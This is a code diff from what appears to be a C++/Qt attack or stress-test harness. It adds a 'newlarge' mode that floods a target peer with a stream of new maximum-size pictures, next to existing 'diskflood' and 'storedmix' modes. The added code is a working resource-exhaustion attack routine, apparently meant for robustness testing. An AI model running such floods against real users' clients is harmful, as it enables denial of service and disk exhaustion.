@@ -117,6 +117,26 @@ bool RunPictureAttack(
         report(QStringLiteral("STOREDMIX messages %1 out %2").arg(n).arg(peer.bytesOut()));
         return true;
     }
+    if (attack == QLatin1String("newlarge")) {
+        // N messages, each naming a new picture of the largest size, sent
+        // after it at the pace the receiver decodes and stores them; the
+        // picture ids count on from the FIRST given. From port 2430, so that
+        // every run is the same peer, whose window a user can open.
+        RawPeer peer(target, port, QStringLiteral("wide"), 0, 2430);
+        const quint32 first = quint32(qBound(0, words.value(2).toInt(), 0xFFFF));
+        peer.setNumber(5000000 + first * 16); // a picture takes 5 packets
+        peer.announce();
+        const QByteArray picture = largest();
+        for (int i = 0; i < n; ++i) {
+            const quint32 id = kLargeId + 0x10000 + first + quint32(i);
+            name(peer, { id });
+            sendChunks(peer, id, picture, 0, 1);
+            peer.collect(350);
+        }
+        peer.collect(2000);
+        report(QStringLiteral("NEWLARGE messages %1 out %2").arg(n).arg(peer.bytesOut()));
+        return true;
+    }
     if (attack == QLatin1String("diskflood")) {
         qint64 out = 0;
         int k = 0;
